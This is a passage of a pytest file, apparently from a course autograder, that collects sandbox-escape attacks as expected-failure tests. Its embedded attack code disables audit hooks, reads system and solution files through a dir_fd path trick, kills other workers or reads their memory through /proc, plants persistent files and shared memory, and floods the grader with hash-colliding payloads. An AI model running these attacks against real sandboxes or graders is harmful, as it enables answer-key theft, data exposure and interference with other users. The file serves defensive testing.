@@ -1,0 +1,941 @@
+"""The attacker's corpus (issue 12): what a student who wants points tries once the audit hook is gone.
+
+Every attack first switches the worker's audit hook off for real, from inside the submission
+(`HOOK_OFF`: grader.audit's Confinement is reached through sys.modules and gc; its `_check` is patched
+away and every instance marked busy, so the hook returns at once), because Python's audit hooks are no
+sandbox and the Grading rules must hold without it. `test_the_attacker_can_switch_the_hook_off` shows
+that this works, so that every other attack here is one against the operating-system layers alone.
+
+Each test asserts a guarantee of the Grading rules: at most the honest score, no secret in what comes
+back, another worker unharmed, nothing left behind, grader-side work bounded (by a generous alarm, not
+a wall-clock assertion). Where the attack succeeds on today's main the test is a strict xfail whose
+reason names the issue 12 item and what leaks, so the suite stays green and flips as the holes close.
+
+Two kinds of attack: through `grade` (the whole pipeline, cut to a few exercises, as test_kit_hostile),
+and, for the lower-level ones, through `sandboxed_student` (one or two Sandboxes held by the test;
+`softmax` called with a string is the attack's command channel, its return value the exfiltration
+channel, exactly what a visible check would print).
+"""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import signal
+import subprocess
+import sys
+import tempfile
+import textwrap
+import types
+import uuid
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from grader.grading import grade
+from grader.protocol import SubmissionError
+from grader.sandbox import Limits, protect_kit
+from grader.student import sandboxed_student
+from grader.worker import load_module
+from tests.kit.gradescope_schema import problems
+
+KIT = Path(__file__).resolve().parents[2]
+REFERENCE_PATH = KIT / "solutions" / "optimization_toolkit.py"
+REFERENCE = REFERENCE_PATH.read_text()
+STUB = (KIT / "student" / "optimization_toolkit.py").read_text()
+FULL_EXAMPLE = KIT / "examples" / "submissions" / "ada_full.py"
+EXERCISES = [8, 12]  # softmax (attacked) and group_advantages (honest where the reference is appended)
+HONEST = 4.0  # exercise 12's points
+EXERCISE_OF = {"softmax": 8, "add_score": 9, "group_advantages": 12, "exact_kl": 16, "autoresearch": 19}
+LIMITS = Limits(call_seconds=1.0, import_seconds=5.0)  # a call's wall bound: 4 s
+ROOT = os.geteuid() == 0
+as_root = pytest.mark.skipif(not ROOT, reason="the worker runs as another user only when the grader is root")
+
+# Switches the audit hook off from inside the worker: the hook object lives in the interpreter it guards.
+HOOK_OFF = """
+
+import gc as _gc
+import sys as _sys
+
+
+def _switch_the_hook_off():
+    audit = _sys.modules.get("grader.audit")
+    if audit is not None:
+        audit.Confinement._check = lambda self, event, args: None
+    for obj in _gc.get_objects():
+        if type(obj).__name__ == "Confinement":
+            obj._busy = True  # the hook's own re-entrancy guard: it now returns at once
+
+
+_switch_the_hook_off()
+"""
+
+# The command channel of the low-level attacks: softmax("verb:argument") runs ATTACKS[verb](argument).
+COMMANDS = """
+
+import os as _os
+
+_ATTACKS = {}
+
+
+def _attack(fn):
+    _ATTACKS[fn.__name__] = fn
+    return fn
+
+
+def _honest_softmax(xs):
+    m = max(xs)
+    es = [math.exp(x - m) for x in xs]
+    return [e / sum(es) for e in es]
+
+
+def softmax(xs):
+    if isinstance(xs, str):
+        verb, _, argument = xs.partition(":")
+        try:
+            return _ATTACKS[verb](argument)
+        except Exception as error:  # an attack the sandbox stopped: the call still answers
+            return f"REFUSED:{type(error).__name__}: {error}"
+    return _honest_softmax(xs)
+
+
+@_attack
+def read_past_the_hook(path):
+    # Works with the hook on (issue 12 item 4): the hook resolves a relative path from the cwd, the
+    # kernel from dir_fd. From a cwd six folders deep in the scratch folder, "../../../x" is in the
+    # scratch folder for the hook; from the scratch folder itself (three deep) it is "/x" for the kernel.
+    scratch = _os.getcwd()
+    deep = _os.path.join(scratch, "a", "b", "c", "d", "e", "f")
+    _os.makedirs(deep, exist_ok=True)
+    folder = _os.open(scratch, _os.O_RDONLY)
+    _os.chdir(deep)
+    try:
+        ups = "../" * scratch.count("/")
+        fd = _os.open(ups + path.lstrip("/"), _os.O_RDONLY, dir_fd=folder)
+        return "READ:" + _os.read(fd, 4096).decode("utf-8", "replace")
+    except OSError as error:
+        return f"DENIED:{error}"
+    finally:
+        _os.chdir(scratch)
+
+
+@_attack
+def read(path):
+    try:
+        with open(path, "rb") as handle:
+            return "READ:" + handle.read(4096).decode("utf-8", "replace")
+    except OSError as error:
+        return f"DENIED:{error}"
+"""
+
+
+@pytest.fixture(scope="module")
+def ref() -> types.ModuleType:
+    return load_module(REFERENCE_PATH, "attacks_reference")
+
+
+@pytest.fixture(scope="module", autouse=True)
+def protected_kit() -> None:
+    """What every grading as root does first (the pytest plugin): the kit's secrets closed to others."""
+    if ROOT:
+        protect_kit(KIT)
+
+
+@contextlib.contextmanager
+def worker(ref, tail: str, limits: Limits = LIMITS, source: str = REFERENCE, hook_off: bool = True):
+    """One sandboxed submission (the reference, the hook switched off, the command channel, `tail`)."""
+    student, box = sandboxed_student(
+        source + (HOOK_OFF if hook_off else "") + COMMANDS + textwrap.dedent(tail),
+        ref,
+        ref,
+        EXERCISE_OF,
+        limits=limits,
+    )
+    try:
+        yield student, box
+    finally:
+        box.close()
+
+
+class BoundExceeded(Exception):
+    """The grader did not get its answer within the test's generous bound."""
+
+
+@contextlib.contextmanager
+def bounded(seconds: float) -> Iterator[None]:
+    """Interrupt the grader (this process) after `seconds`: grader-side work must be bounded. The
+    interruption may be swallowed (a reference that runs in the grader turns any exception into the
+    call's error), so the overrun is also recorded and checked when the block ends."""
+    overran = []
+
+    def expired(signum, frame):
+        overran.append(True)
+        raise BoundExceeded(f"the grader was still busy after {seconds} s")
+
+    previous = signal.signal(signal.SIGALRM, expired)
+    signal.setitimer(signal.ITIMER_REAL, seconds)
+    try:
+        yield
+    finally:
+        signal.setitimer(signal.ITIMER_REAL, 0)
+        signal.signal(signal.SIGALRM, previous)
+    if overran:
+        raise BoundExceeded(f"the grader was still busy after {seconds} s")
+
+
+@pytest.fixture
+def sandboxes() -> Iterator[Path]:
+    """TMPDIR for a grading: in /tmp, which the worker user may pass through."""
+    folder = Path(tempfile.mkdtemp(prefix="optlab-attacks-"))
+    os.chmod(folder, 0o711)
+    yield folder
+    import shutil
+
+    shutil.rmtree(folder, ignore_errors=True)
+
+
+def grade_source(tmp_path: Path, source: str, exercises=EXERCISES, **options) -> dict:
+    submission = tmp_path / "submission"
+    submission.mkdir(parents=True, exist_ok=True)
+    (submission / "optimization_toolkit.py").write_text(source)
+    return grade_submission(tmp_path, submission, exercises, **options)
+
+
+def grade_submission(tmp_path: Path, submission: Path, exercises=EXERCISES, **options) -> dict:
+    out = tmp_path / "results" / "results.json"
+    options.setdefault("call_timeout", 2)
+    graded = grade(KIT, submission, out, exercises=exercises, **options)
+    assert problems(out) == []
+    return graded.document
+
+
+def entries(document: dict) -> dict[str, dict]:
+    return {t["name"]: t for t in document["tests"]}
+
+
+def everything_shown(document: dict) -> str:
+    return document.get("output", "") + "\n".join(t.get("output", "") for t in document["tests"])
+
+
+# -- 0. the precondition: the hook is no boundary ---------------------------------------------------------
+
+
+def test_the_attacker_can_switch_the_hook_off(ref):
+    """With HOOK_OFF, what the hook refuses (native code, a write outside the scratch folder's rules)
+    runs: every other attack here is one against the operating system's layers alone."""
+    tail = """
+    @_attack
+    def native(argument):
+        import ctypes
+
+        return ctypes.sizeof(ctypes.c_int)
+    """
+    with worker(ref, tail) as (student, _):
+        assert student.softmax("native:") == 4
+
+
+# -- 1. files -------------------------------------------------------------------------------------------
+
+
+def _git_object_file() -> Path | None:
+    common = Path(subprocess.run(
+        ["git", "-C", str(KIT), "rev-parse", "--path-format=absolute", "--git-common-dir"],
+        capture_output=True, text=True, check=False,
+    ).stdout.strip() or KIT / ".git")  # fmt: skip
+    for folder in (common / "objects" / "pack", common / "objects"):
+        found = sorted(p for p in folder.rglob("*") if p.is_file()) if folder.is_dir() else []
+        if found:
+            return found[0]
+    return None
+
+
+def _installed_manifest() -> Path:
+    import grader
+
+    return Path(grader.__file__).parent / "exercises.toml"
+
+
+def _venv_manifest() -> Path | None:
+    """The manifest of the grader package the interpreter has installed (site-packages, or the folder an
+    editable install maps it to): protect_kit closes the kit tree it grades with, not this copy."""
+    import re
+    import sysconfig
+
+    site = Path(sysconfig.get_paths()["purelib"])
+    if (site / "grader" / "exercises.toml").is_file():
+        return site / "grader" / "exercises.toml"
+    for finder in site.glob("__editable__*optlab*finder.py"):
+        if found := re.search(r"'grader': '([^']+)'", finder.read_text()):
+            return Path(found[1]) / "exercises.toml"
+    return None
+
+
+SECRET_FILES = {
+    "examples/ full solution": (lambda: FULL_EXAMPLE, "succeeds"),
+    ".git object": (_git_object_file, "succeeds"),
+    "git HEAD of the checkout": (lambda: KIT / ".git", "succeeds"),
+    "solutions/ reference": (lambda: REFERENCE_PATH, "holds"),
+    "tests/hidden": (lambda: KIT / "tests" / "hidden" / "test_ex08_softmax.py", "holds"),
+    "the kit's own grader/exercises.toml": (_installed_manifest, "holds"),
+    # Closed only if a grading with that tree as the kit has run protect_kit on it (an editable install is
+    # the checkout; a site-packages copy is never closed): a leak exactly where it is open to others.
+    "the installed package's grader/exercises.toml": (_venv_manifest, "succeeds if open to others"),
+    "a kit module outside the worker runtime": (lambda: KIT / "grader" / "grading.py", "succeeds"),
+    "/etc/passwd": (lambda: Path("/etc/passwd"), "succeeds"),
+    "the grader's /proc/<ppid>/cmdline": (lambda: Path(f"/proc/{os.getpid()}/cmdline"), "succeeds"),
+    "the grader's /proc/<ppid>/environ": (lambda: Path(f"/proc/{os.getpid()}/environ"), "holds"),
+}
+
+
+def _file_case(name: str):
+    where, today = SECRET_FILES[name]
+    if today == "succeeds if open to others":
+        path = where()
+        today = (
+            "succeeds" if path is not None and path.exists() and os.stat(path).st_mode & 0o004 else "holds"
+        )
+    marks = [as_root]
+    if today == "succeeds" or not ROOT:
+        marks.append(pytest.mark.xfail(strict=ROOT, reason=f"issue 12 item 1: the worker reads {name}"))
+    return pytest.param(name, marks=marks, id=name)
+
+
+@pytest.mark.parametrize("name", [_file_case(n) for n in SECRET_FILES])
+def test_the_worker_reads_no_file_of_the_kit_or_the_system(ref, name):
+    """The worker, hook off, opens a secret file and returns its first bytes as its answer."""
+    path = SECRET_FILES[name][0]()
+    if path is None:
+        pytest.skip("no such file here")
+    with worker(ref, "") as (student, _):
+        got = student.softmax(f"read:{path}")
+    assert not got.startswith("READ:"), f"{path} leaked: {got[5:80]!r}"
+
+
+@pytest.mark.xfail(
+    strict=True, reason="issue 12 items 1 and 4: with the hook on, a dir_fd path escapes its path check"
+)
+def test_the_hook_alone_keeps_no_file_from_the_worker(ref):
+    """Not even the hook's own job holds against a submission that leaves it on: os.open with dir_fd
+    (the scratch folder) and a relative path, from a cwd deeper in the scratch folder."""
+    with worker(ref, "", hook_off=False) as (student, _):
+        assert student.softmax("read:/etc/passwd").startswith("DENIED:")  # the hook is on
+        got = student.softmax(f"read_past_the_hook:{FULL_EXAMPLE}")
+    assert not got.startswith("READ:"), f"{FULL_EXAMPLE} leaked: {got[5:80]!r}"
+
+
+@pytest.mark.xfail(strict=True, reason="issue 12 item 1: the untouched stub runs examples/'s full solution")
+def test_the_stub_does_not_score_with_a_solution_found_on_disk(tmp_path, sandboxes, monkeypatch):
+    """The stub, plus: hook off, exec a full solution lying in the kit (examples/ or solutions/)."""
+    monkeypatch.setenv("TMPDIR", str(sandboxes))
+    steal = f"""
+    for _path in ({str(REFERENCE_PATH)!r}, {str(FULL_EXAMPLE)!r}):
+        try:
+            exec(compile(open(_path).read(), "stolen", "exec"), globals())
+            break
+        except OSError:
+            pass
+    """
+    document = grade_source(tmp_path, STUB + HOOK_OFF + textwrap.dedent(steal))
+    assert document["score"] == 0
+
+
+@pytest.mark.xfail(strict=True, reason="issue 12 item 1: a kit file's text shows in the visible output")
+def test_a_file_of_the_kit_is_not_exfiltrated_through_the_visible_output(tmp_path, sandboxes, monkeypatch):
+    """softmax raises an exception whose message is the text of a kit file: the visible entry shows it."""
+    monkeypatch.setenv("TMPDIR", str(sandboxes))
+    secret = next(line for line in FULL_EXAMPLE.read_text().splitlines() if "def softmax" in line)
+    leak = f"""
+    def softmax(xs):
+        text = open({str(FULL_EXAMPLE)!r}).read()
+        start = text.index("def softmax")
+        raise ValueError("LEAK " + text[start:start + 300])
+    """
+    document = grade_source(tmp_path, REFERENCE + HOOK_OFF + textwrap.dedent(leak))
+    assert secret not in everything_shown(document)
+
+
+# -- 2. one user for every worker ---------------------------------------------------------------------------
+
+SECRET_OF_B = "B-SECRET-" + uuid.uuid4().hex
+NEIGHBOUR = """
+
+@_attack
+def same_user(pid):
+    mine = {line for line in open("/proc/self/status") if line.startswith("Uid:")}
+    theirs = {line for line in open(f"/proc/{pid}/status") if line.startswith("Uid:")}
+    return "SAME" if mine == theirs else "OTHER"
+
+
+@_attack
+def kill(pid):
+    try:
+        _os.kill(int(pid), 9)  # a real attacker kills every pid of /proc with its own uid
+        return "KILLED"
+    except OSError as error:
+        return f"REFUSED:{error}"
+
+
+@_attack
+def rewrite(pid):
+    config = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")[-2]
+    module = __import__("json").loads(config)["module"]
+    try:
+        with open(module, "a") as handle:
+            handle.write("\\ndef softmax(xs):\\n    return [1.0] * len(xs)\\n")
+    except OSError as error:
+        return f"REFUSED:{error}"
+    try:
+        _os.kill(int(pid), 9)  # its next call restarts it from the rewritten module
+    except OSError:
+        pass
+    return "REWRITTEN"
+
+
+@_attack
+def steal_source(pid):
+    config = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")[-2]
+    module = __import__("json").loads(config)["module"]
+    try:
+        return "READ:" + open(module).read()[-200:]
+    except OSError as error:
+        return f"DENIED:{error}"
+
+
+@_attack
+def memory(pid):
+    found = []
+    try:
+        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
+            for line in maps:
+                span, perms = line.split()[:2]
+                if "r" not in perms or "[vvar" in line or "[vsyscall" in line:
+                    continue
+                start, end = (int(x, 16) for x in span.split("-"))
+                try:
+                    mem.seek(start)
+                    chunk = mem.read(min(end - start, 64 << 20))
+                except (OSError, OverflowError, ValueError):
+                    continue
+                at = chunk.find(b"B-SECRET-")
+                if at >= 0:
+                    found.append(chunk[at:at + 41].decode("ascii", "replace"))
+                    break
+    except OSError as error:
+        return f"DENIED:{error}"
+    return "READ:" + ",".join(found)
+"""
+
+
+@contextlib.contextmanager
+def two_workers(ref) -> Iterator[tuple]:
+    """Two submissions graded at the same time: A attacks, B is honest and holds a secret."""
+    with worker(ref, NEIGHBOUR) as (a, box_a), worker(ref, f"\nMY_SECRET = {SECRET_OF_B!r}\n") as (b, box_b):
+        assert a.softmax([0.0, 0.0]) == b.softmax([0.0, 0.0]) == [0.5, 0.5]  # both running
+        yield a, b, box_b, box_b._process.pid
+
+
+@as_root
+@pytest.mark.xfail(strict=True, reason="issue 12 item 2: every concurrent worker runs as the same uid")
+def test_concurrent_workers_run_as_different_users(ref):
+    with two_workers(ref) as (a, _, _, pid):
+        assert a.softmax(f"same_user:{pid}") != "SAME"
+
+
+@as_root
+@pytest.mark.xfail(strict=True, reason="issue 12 item 2: worker A SIGKILLs worker B (same uid)")
+def test_a_worker_cannot_kill_another(ref):
+    with two_workers(ref) as (a, b, box_b, pid):
+        answer = a.softmax(f"kill:{pid}")
+        assert b.softmax([0.0, 0.0]) == [0.5, 0.5], answer
+        assert box_b.restarts == 1, f"B was restarted: {box_b.log}"
+
+
+@as_root
+@pytest.mark.xfail(
+    strict=True, reason="issue 12 item 2: worker A rewrites B's scratch module; B restarts as A's code"
+)
+def test_a_worker_cannot_rewrite_another_workers_module(ref):
+    with two_workers(ref) as (a, b, _, pid):
+        a.softmax(f"rewrite:{pid}")
+        with contextlib.suppress(SubmissionError):
+            b.softmax([0.0])  # B's call in flight when it was killed
+        assert b.softmax([0.0, 0.0]) == [0.5, 0.5]
+
+
+@as_root
+@pytest.mark.xfail(
+    strict=True, reason="issue 12 item 2: worker A reads B's submission from its scratch folder"
+)
+def test_a_worker_cannot_read_another_workers_submission(ref):
+    with two_workers(ref) as (a, _, _, pid):
+        assert SECRET_OF_B not in a.softmax(f"steal_source:{pid}")
+
+
+@as_root
+@pytest.mark.xfail(strict=True, reason="issue 12 item 2: worker A reads B's memory through /proc/<pid>/mem")
+def test_a_worker_cannot_read_another_workers_memory(ref):
+    with two_workers(ref) as (a, _, _, pid):
+        assert SECRET_OF_B not in a.softmax(f"memory:{pid}")
+
+
+# -- 3. persistence -----------------------------------------------------------------------------------------
+
+MARK = "persisted-" + uuid.uuid4().hex
+PLANTS = """
+
+MARK = "%MARK%"
+# Plain files: where they go, what the later worker reads back.
+_PLACES = {
+    "tmp-sub": "/tmp/optlab-attack-" + MARK + "/sub/dir/loot",
+    "var-tmp": "/var/tmp/optlab-attack-" + MARK,
+    "dev-shm": "/dev/shm/optlab-attack-" + MARK,
+    "run-lock": "/run/lock/optlab-attack-" + MARK,
+}
+
+
+@_attack
+def plant(where):
+    if where == "sysv-shm":
+        return _sysv(create=True)
+    if where == "posix-mq":
+        return _mq(create=True)
+    path = _PLACES[where]
+    try:
+        _os.makedirs(_os.path.dirname(path), exist_ok=True)
+        with open(path, "w") as handle:
+            handle.write(MARK)
+        return "PLANTED"
+    except OSError as error:
+        return f"REFUSED:{error}"
+
+
+@_attack
+def harvest(where):
+    if where == "sysv-shm":
+        return _sysv(create=False)
+    if where == "posix-mq":
+        return _mq(create=False)
+    try:
+        return "READ:" + open(_PLACES[where]).read()
+    except OSError as error:
+        return f"DENIED:{error}"
+
+
+def _sysv(create):
+    import ctypes
+
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.shmat.restype = ctypes.c_void_p
+    key = 0x0B7A0000 + (int(MARK[-6:], 16) & 0xFFFF)
+    ident = libc.shmget(key, 4096, (0o1000 | 0o666) if create else 0)  # IPC_CREAT
+    if ident < 0:
+        return f"DENIED:shmget errno {ctypes.get_errno()}"
+    address = libc.shmat(ident, None, 0)
+    if address in (None, ctypes.c_void_p(-1).value):
+        return f"DENIED:shmat errno {ctypes.get_errno()}"
+    if create:
+        ctypes.memmove(address, MARK.encode(), len(MARK))
+        return "PLANTED"
+    return "READ:" + ctypes.string_at(address, len(MARK)).decode("ascii", "replace")
+
+
+def _mq(create):
+    import ctypes
+
+    libc = ctypes.CDLL(None, use_errno=True)
+    name = ("/optlab-attack-" + MARK[-12:]).encode()
+    flags = (0o100 | 0o2) if create else 0  # O_CREAT | O_RDWR, or O_RDONLY
+    mqd = libc.mq_open(name, flags, 0o666, None)
+    if mqd < 0:
+        return f"DENIED:mq_open errno {ctypes.get_errno()}"
+    if create:
+        libc.mq_send(mqd, MARK.encode(), len(MARK), 0)
+        return "PLANTED"
+    buffer = ctypes.create_string_buffer(16384)
+    size = libc.mq_receive(mqd, buffer, 16384, None)
+    return "READ:" + buffer.raw[: max(size, 0)].decode("ascii", "replace")
+""".replace("%MARK%", MARK)
+
+
+def _remove_leftovers() -> None:
+    """As root, after the test: whatever the attack left (it must not pile up on the machine)."""
+    import ctypes
+    import shutil
+
+    for top in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
+        path = f"{top}/optlab-attack-{MARK}"
+        if os.path.isdir(path):
+            shutil.rmtree(path, ignore_errors=True)
+        elif os.path.lexists(path):
+            os.unlink(path)
+    libc = ctypes.CDLL(None, use_errno=True)
+    ident = libc.shmget(0x0B7A0000 + (int(MARK[-6:], 16) & 0xFFFF), 0, 0)
+    if ident >= 0:
+        libc.shmctl(ident, 0, None)  # IPC_RMID
+    libc.mq_unlink(("/optlab-attack-" + MARK[-12:]).encode())
+
+
+PERSISTENCE = {  # where -> holds today?
+    "tmp-sub": True,
+    "var-tmp": True,
+    "dev-shm": True,
+    "run-lock": False,
+    "sysv-shm": False,
+    "posix-mq": False,
+}
+
+
+def _persistence_case(where: str):
+    marks = [as_root]
+    if not PERSISTENCE[where]:
+        marks.append(pytest.mark.xfail(strict=True, reason=f"issue 12 item 3: {where} outlives the grading"))
+    return pytest.param(where, marks=marks, id=where)
+
+
+@pytest.mark.parametrize("where", [_persistence_case(w) for w in PERSISTENCE])
+def test_nothing_a_worker_writes_outlives_its_grading(ref, where):
+    """One grading plants a mark; a later grading (a new sandbox) looks for it."""
+    try:
+        with worker(ref, PLANTS) as (student, _):
+            planted = student.softmax(f"plant:{where}")
+        with worker(ref, PLANTS) as (student, _):
+            harvested = student.softmax(f"harvest:{where}")
+        assert not (harvested.startswith("READ:") and MARK in harvested), (
+            f"planted: {planted}; read back: {harvested}"
+        )
+    finally:
+        _remove_leftovers()
+
+
+# -- 7. unbounded work in the grader ------------------------------------------------------------------------
+
+GRADER_WORK = """
+
+import random as _random
+
+
+def _raw_answer(text):
+    # The worker's own end of the pipe, reached with gc: any bytes at all can be sent to the grader.
+    link = next(o for o in _gc.get_objects() if type(o).__name__ == "PipeLink")
+    link._writer.write(text.encode() + b"\\n")
+    import time
+
+    time.sleep(60)  # never answers for real: the grader must already be done with the message
+
+
+@_attack
+def long_reference(iters):
+    # Another exercise's function, answered by the reference in the grader's process: argument chosen.
+    return str(autoresearch(int(iters), _random.Random(0)))[:50]
+
+
+@_attack
+def long_list_request(n):
+    # exact_kl (another exercise) on two lists of n ints, the request written by hand (cheap for the
+    # worker): the grader parses, decodes and runs the reference on all of it.
+    link = next(o for o in _gc.get_objects() if type(o).__name__ == "PipeLink")
+    ones = ",".join(["1"] * int(n)).encode()
+    head = b'{"op":"reference","function":"exact_kl","args":[['
+    link._writer.write(head + ones + b"],[" + ones + b']],"kwargs":{}}\\n')
+    link.receive()
+    return "SENT"
+
+
+@_attack
+def colliding_set(n):
+    step = 2**61 - 1  # every k * step hashes to 0: a set of them is quadratic to build
+    _raw_answer('{"op":"return","value":{"$set":[' + ",".join(str(k * step) for k in range(int(n))) + ']}}')
+
+
+@_attack
+def colliding_request(n):
+    # A reference request whose argument is a dict of colliding keys, written by hand (building the dict
+    # in the worker would be quadratic there too); the grader decodes it into a dict.
+    step = 2**61 - 1
+    link = next(o for o in _gc.get_objects() if type(o).__name__ == "PipeLink")
+    pairs = ",".join(f"[{k * step},0]" for k in range(int(n)))
+    link._writer.write(
+        b'{"op":"reference","function":"group_advantages","args":[{"$dict":['
+        + pairs.encode()
+        + b']}],"kwargs":{}}\\n'
+    )
+    link.receive()
+    return "SENT"
+
+
+@_attack
+def deep_answer(depth):
+    n = int(depth)
+    _raw_answer('{"op":"return","value":' + "[" * n + "]" * n + "}")
+
+
+@_attack
+def many_lists(megabytes):
+    n = int(megabytes) * (1 << 20) // 3
+    _raw_answer('{"op":"return","value":[' + ",".join(["[]"] * n) + "]}")
+
+
+@_attack
+def huge_answer(megabytes):
+    return "x" * (int(megabytes) << 20)
+"""
+
+
+@pytest.mark.xfail(strict=True, reason="issue 12 item 7: a reference request runs unbounded in the grader")
+def test_a_reference_request_cannot_keep_the_grader_busy(ref):
+    """softmax asks for autoresearch(10**7, ...): the reference runs it in the grader's own process."""
+    with worker(ref, GRADER_WORK) as (student, _), bounded(8):
+        with contextlib.suppress(SubmissionError):
+            student.softmax(f"long_reference:{10**7}")
+
+
+def test_a_huge_reference_request_cannot_keep_the_grader_busy(ref):
+    """softmax asks the reference for exact_kl of two lists of 10**7 elements (40 MB of request). Holds
+    today only because receiving 40 MB is slow (see the 100 MB answer below) and the call's deadline
+    cuts it; once receiving is fast, parsing, decoding and the reference must be bounded too."""
+    with worker(ref, GRADER_WORK) as (student, _), bounded(8):
+        with contextlib.suppress(SubmissionError):
+            student.softmax(f"long_list_request:{10**7}")
+
+
+@pytest.mark.xfail(strict=True, reason="issue 12 item 7: a hash-colliding set is decoded in the grader")
+def test_hash_colliding_set_members_cannot_keep_the_grader_busy(ref):
+    """An answer of 200 000 ints that all hash to 0: decoding it into a set is quadratic."""
+    with worker(ref, GRADER_WORK) as (student, _), bounded(8):
+        with contextlib.suppress(SubmissionError):
+            student.softmax("colliding_set:200000")
+
+
+@pytest.mark.xfail(
+    strict=True, reason="issue 12 item 7: a request's colliding dict keys are decoded in the grader"
+)
+def test_hash_colliding_dict_keys_in_a_request_cannot_keep_the_grader_busy(ref):
+    """A reference request whose argument is a dict of 200 000 colliding keys: the grader builds it."""
+    with worker(ref, GRADER_WORK) as (student, _), bounded(8):
+        with contextlib.suppress(SubmissionError):
+            student.softmax("colliding_request:200000")
+
+
+def test_deep_nesting_in_an_answer_is_refused_at_once(ref):
+    with worker(ref, GRADER_WORK) as (student, _), bounded(8):
+        with pytest.raises(Exception):  # noqa: B017,PT011 - anything but an answer
+            student.softmax("deep_answer:100000")
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="issue 12 item 7: receiving an answer near the 64 MB cap costs the grader ~20 s of CPU "
+    "(64 KB pipe reads, the whole buffer re-scanned for a newline and re-copied after each)",
+)
+def test_a_100_mb_answer_is_refused_at_little_cost(ref):
+    """The worker (given all the time it wants) answers 100 MB: the grader must refuse it past its message
+    cap without working for long."""
+    with worker(ref, GRADER_WORK, limits=Limits(call_seconds=30.0)) as (student, _), bounded(8):
+        with pytest.raises(SubmissionError, match="larger than the grader accepts"):
+            student.softmax("huge_answer:100")
+
+
+MEMORY_PROBE = """
+import resource, sys, textwrap
+sys.path.insert(0, {kit!r})
+from pathlib import Path
+from grader.sandbox import Limits
+from grader.student import sandboxed_student
+from grader.worker import load_module
+ref = load_module(Path({reference!r}), "r")
+student, box = sandboxed_student({source!r}, ref, ref, {exercises!r}, limits=Limits(call_seconds=30.0))
+before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+try:
+    student.softmax("many_lists:20")
+except BaseException as error:
+    print(type(error).__name__, str(error)[:200], file=sys.stderr)
+finally:
+    box.close()
+print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)
+"""
+
+
+@pytest.mark.xfail(
+    strict=True, reason="issue 12 item 7: a 20 MB answer of empty lists costs the grader ~1 GB"
+)
+def test_a_message_of_many_small_values_does_not_cost_the_grader_much_memory(tmp_path):
+    """The grader (a child Python, its address space capped at 2 GiB so the machine is safe) receives
+    a 20 MB answer of empty lists: its peak memory must stay within a few times the message cap."""
+    source = REFERENCE + HOOK_OFF + COMMANDS + GRADER_WORK
+    script = MEMORY_PROBE.format(
+        kit=str(KIT), reference=str(REFERENCE_PATH), source=source, exercises=EXERCISE_OF
+    )
+    cap = "import resource; resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))\n"
+    done = subprocess.run(
+        [sys.executable, "-c", cap + script], capture_output=True, text=True, timeout=120, cwd=KIT
+    )
+    grown = int(done.stdout.split()[-1]) if done.stdout.split() else 10**6
+    assert grown < 400, f"the grader grew by {grown} MB ({done.stderr[-300:]})"
+
+
+# -- 8. one run budget -----------------------------------------------------------------------
+
+SLOW = """
+
+def softmax(xs):
+    import time
+
+    time.sleep(0.9)  # just under the call's wall bound (0.25 s of CPU x 4)
+    return _honest_softmax(xs)
+"""
+
+
+@pytest.mark.xfail(
+    strict=True, reason="issue 12 item 8: a slow exercise uses up the run budget of the others"
+)
+def test_a_slow_exercise_does_not_time_out_the_others_in_a_sandbox(ref):
+    """Sandbox level: a correct softmax that sleeps just under the bound, three times, then exact_kl."""
+    limits = Limits(call_seconds=0.25, import_seconds=5.0, run_seconds=2.0)
+    with worker(ref, SLOW, limits=limits) as (student, _):
+        for _ in range(3):
+            with contextlib.suppress(SubmissionError):
+                student.softmax([0.0, 0.0])
+        assert student.exact_kl([0.5, 0.5], [0.5, 0.5]) == 0.0
+
+
+@pytest.mark.xfail(strict=True, reason="issue 12 item 8: a slow exercise 8 costs exercise 12's points")
+def test_a_slow_exercise_costs_only_its_own_points(tmp_path, sandboxes, monkeypatch):
+    """grade: softmax correct but sleeping just under the per-call bound in every call; group_advantages
+    correct. The run is cut at 20 s (today a cut run discards every record, even of checks that ran):
+    exercise 12's checks must still be run and passed."""
+    monkeypatch.setenv("TMPDIR", str(sandboxes))
+    slow = """
+
+    def softmax(xs):
+        import time
+
+        time.sleep(0.35)  # --call-timeout 0.1: the wall bound is 0.4 s
+        m = max(xs)
+        es = [math.exp(x - m) for x in xs]
+        return [e / sum(es) for e in es]
+    """
+    document = grade_source(tmp_path, REFERENCE + textwrap.dedent(slow), call_timeout=0.1, run_seconds=20.0)
+    by_name = entries(document)
+    assert by_name["12 group advantages: visible checks"]["status"] == "passed"
+    assert by_name["12 group advantages: hidden checks"]["status"] == "passed"
+
+
+# -- 9. protocol desync -----------------------------------------------------------------------
+
+DESYNC = """
+
+STALE = []
+
+
+@_attack
+def long_int(argument):
+    _sys.set_int_max_str_digits(0)
+    try:
+        group_advantages([10**5000])  # a request the grader cannot decode (int too long to convert)
+    except Exception:  # the grader's next call arrives as the answer to this request
+        pass
+    return _honest_softmax([1.0, 2.0, 3.0])
+
+
+@_attack
+def deep_request(argument):
+    link = next(o for o in _gc.get_objects() if type(o).__name__ == "PipeLink")
+    n = 10000
+    # the request written by hand: the worker's own codec would refuse the depth
+    link._writer.write(
+        b'{"op":"reference","function":"exact_kl","args":['
+        + b"[" * n
+        + b"]" * n
+        + b',[]],"kwargs":{}}\\n'
+    )
+    link.receive()  # the grader's next call, taken as the answer
+    return _honest_softmax([1.0, 2.0, 3.0])
+"""
+
+
+@pytest.mark.parametrize("how", ["long_int", "deep_request"])
+@pytest.mark.xfail(
+    strict=True, reason="issue 12 item 9: an undecodable request leaves the next call a stale answer"
+)
+def test_a_message_that_does_not_decode_never_leaves_stale_answers(ref, how):
+    """A request the grader cannot decode for a reason other than JSON syntax; the next call must get its
+    own answer (or an error), never the answer of the call before."""
+    with worker(ref, DESYNC) as (student, _), bounded(20):
+        with contextlib.suppress(Exception):
+            student.softmax(f"{how}:")
+        try:
+            got = student.softmax([0.0, 0.0])
+        except SubmissionError:
